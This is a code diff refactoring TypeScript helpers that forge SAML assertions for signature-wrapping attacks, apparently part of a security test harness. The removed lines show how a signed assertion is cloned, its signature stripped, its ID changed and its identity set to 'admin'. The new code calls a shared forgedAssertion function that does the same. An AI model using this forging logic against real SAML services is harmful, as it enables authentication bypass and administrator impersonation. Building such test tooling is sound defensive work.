@@ -1,5 +1,5 @@
 // DOM helpers for surgery on genuine Responses (@xmldom/xmldom): parse/serialize, navigation, the forged assertion.
-import { NS } from '@samlbridge/protocol';
+import { forgedAssertion, NS, setAssertionIdentity } from '@samlbridge/protocol';
 import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom';
 
 const parser = () =>
@@ -24,25 +24,12 @@ export const assertionOf = (doc: Document) => child(root(doc), NS.assertion, 'As
 export const signatureOf = (el: Element) => child(el, NS.ds, 'Signature');
 export const cloneEl = (el: Element) => el.cloneNode(true) as Element;
 
-/** The forged assertion every wrapping attack wants accepted: same shape, another identity, a new ID. */
+/** The forged assertion every wrapping attack wants accepted: same shape, another identity, a new ID (protocol's signature-wrapping.ts). */
 export function evilAssertion(original: Element, id = '_evil'): Element {
-  const evil = cloneEl(original);
-  const sig = signatureOf(evil);
-  if (sig) evil.removeChild(sig);
-  evil.setAttribute('ID', id);
-  setIdentity(evil, 'admin');
-  return evil;
+  return forgedAssertion(original, id, 'admin');
 }
 
-export function setIdentity(assertion: Element, login: string): void {
-  const subject = child(assertion, NS.assertion, 'Subject');
-  const nameId = child(subject, NS.assertion, 'NameID');
-  nameId.textContent = login;
-  for (const v of Array.from(assertion.getElementsByTagNameNS(NS.assertion, 'AttributeValue'))) {
-    const a = v.parentNode as Element;
-    if (a.getAttribute('Name') === 'Username') v.textContent = login;
-  }
-}
+export const setIdentity = setAssertionIdentity;
 
 export function insertAfter(parent: Element, node: Element, ref: Element): void {
   parent.insertBefore(node, ref.nextSibling);
